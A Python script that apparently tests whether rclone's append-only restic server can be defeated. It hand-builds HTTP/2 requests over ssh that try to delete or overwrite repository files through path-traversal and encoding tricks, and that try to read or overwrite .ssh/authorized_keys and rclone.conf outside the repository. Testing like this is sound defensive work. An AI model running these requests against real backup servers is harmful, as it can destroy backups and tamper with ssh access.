#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""append_attack.py REPO COMMAND...: attacks an append-only rclone.

COMMAND is an ssh that leads to "rclone serve restic --stdio" over the folder
REPO, which is only listed here. Each of its files is deleted and overwritten
by its name and by other ways to write it, with questions in HTTP/2 that no
restic asks. Prints "STATUS METHOD PATH" for each; what came of it, is to be
looked at in REPO. With LOCK=NAME in the environment, that lock is removed,
which is allowed.
"""
import os
import select
import struct
import subprocess
import sys
import time

STATIC = {8: 200, 9: 204, 10: 206, 11: 304, 12: 400, 13: 404, 14: 500}


def frame(kind, flags, stream, data=b''):
    return (struct.pack('>I', len(data))[1:] + bytes([kind, flags]) +
            struct.pack('>I', stream) + data)


def text(value):
    value = value.encode('latin-1')
    if len(value) < 127:
        return bytes([len(value)]) + value
    n = len(value) - 127
    out = b'\x7f'
    while n >= 128:
        out += bytes([n % 128 + 128])
        n //= 128
    return out + bytes([n]) + value


def status_of(block):
    while block and block[0] & 0xe0 == 0x20:
        block = block[1:]
    if block and block[0] & 0x80:
        return STATIC.get(block[0] & 0x7f, 0)
    if len(block) > 4 and block[1] == 3:
        return int(block[2:5])
    return 0


class Rclone:
    """One connection, many questions, one after another."""

    def __init__(self, command):
        self.command = command
        self.child = None

    def open(self):
        self.child = subprocess.Popen(self.command, stdin=subprocess.PIPE,
                                      stdout=subprocess.PIPE,
                                      stderr=subprocess.DEVNULL)
        self.stream = -1
        self.got = b''
        self.send(b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' +
                  frame(4, 0, 0, bytes([0, 1, 0, 0, 0, 0])))

    def send(self, data):
        try:
            self.child.stdin.write(data)
            self.child.stdin.flush()
        except BrokenPipeError:
            pass

    def close(self):
        if self.child:
            self.child.kill()
            self.child.wait()
        self.child = None

    def frames(self, end):
        while True:
            while len(self.got) >= 9:
                n = int.from_bytes(self.got[:3], 'big')
                if len(self.got) < 9 + n:
                    break
                head, data = self.got[:9], self.got[9:9 + n]
                self.got = self.got[9 + n:]
                yield (head[3], head[4], int.from_bytes(head[5:9], 'big'),
                       data)
            left = end - time.monotonic()
            if left <= 0 or not select.select([self.child.stdout], [], [],
                                              left)[0]:
                return
            more = os.read(self.child.stdout.fileno(), 65536)
            if not more:
                return
            self.got += more

    def ask(self, method, path, body=None):
        """The status; 0 where the connection ended instead."""
        if not self.child:
            self.open()
        self.stream += 2
        head = (b'\x02' + text(method) + b'\x86\x04' + text(path) + b'\x01' +
                text('localhost'))
        self.send(frame(1, 4 if body is not None else 5, self.stream, head))
        if body is not None:
            self.send(frame(0, 1, self.stream, body))
        status = None
        for kind, flags, stream, data in self.frames(time.monotonic() + 20):
            if kind == 4 and not flags & 1:
                self.send(frame(4, 1, 0))
            elif kind == 7 or (kind == 3 and stream == self.stream):
                break
            elif kind == 1 and stream == self.stream:
                status = status_of(data)
            if status is not None and kind in (0, 1) and flags & 1 and \
                    stream == self.stream:
                return status
        self.close()
        return status or 0


def names(repo):
    """Paths of the files as restic asks for them, and as they lie there."""
    for folder, _, files in os.walk(repo):
        for name in files:
            path = os.path.relpath(os.path.join(folder, name), repo)
            parts = path.split('/')
            if parts[0] != 'locks':
                asked = (parts[0] + '/' + parts[2]
                         if parts[0] == 'data' else path)
                yield asked, path


def disguises(asked, path):
    """Other ways to write them, with a lock in sight."""
    return ['/' + path, '//' + asked, '/./' + asked, '/' + asked + '/',
            '/locks/../' + asked, '/locks/%2e%2e/' + asked,
            '/locks/..%2f' + asked.replace('/', '%2f'),
            '/locks%2f..%2f' + asked.replace('/', '%2f'),
            '/' + asked + '/locks/..', '/' + asked + '/locks/../',
            '/' + asked + '/../locks/../' + asked,
            '/locks/\\..\\' + asked, '/locks/x/../../' + asked,
            '/' + asked + '%00/locks/x', '/' + asked + '?/locks/x',
            '/' + asked + '#/locks/x', '/' + asked + ';/locks/x',
            '/locks/' + path, '/' + asked.upper()]


def attacks(repo):
    garbage = b'nothing of use'
    for asked, path in sorted(names(repo)):
        yield 'DELETE', '/' + asked, None
        yield 'POST', '/' + asked, garbage
        yield 'POST', '/' + asked, b''
        for d in disguises(asked, path):
            yield 'DELETE', d, None
            yield 'POST', d, garbage
    for method in ('PUT', 'PATCH', 'MOVE', 'COPY', 'MKCOL', 'delete',
                   'PROPPATCH', 'LOCK', 'TRACE', 'OPTIONS'):
        yield method, '/config', garbage
    for path in ('/', '/data', '/data/', '/snapshots/', '/keys', '/index/',
                 '/locks', '/locks/', '/*', '/snapshots/*', '/..', '/../'):
        yield 'DELETE', path, None
    yield 'POST', '/?create=true', b''
    # out of the folder, to where keys and settings are
    for up in ('/../../', '/..%2f..%2f', '/%2e%2e/%2e%2e/', '/locks/../../../',
               '/data/../../../', '//home/', '/%2fhome%2f'):
        for name in ('.ssh/authorized_keys', '.ssh/authorized_keys2',
                     '.ssh/rc', '.config/rclone/rclone.conf', 'evil'):
            yield 'GET', up + name, None
            yield 'POST', up + name, garbage
            yield 'DELETE', up + name, None


def main():
    repo, rclone = sys.argv[1], Rclone(sys.argv[2:])
    lock = os.environ.get('LOCK')
    if lock:
        print(rclone.ask('DELETE', '/locks/' + lock), 'DELETE', '/locks/')
        return
    for method, path, body in list(attacks(repo)):
        print(rclone.ask(method, path, body), method, path)
    rclone.close()


main()
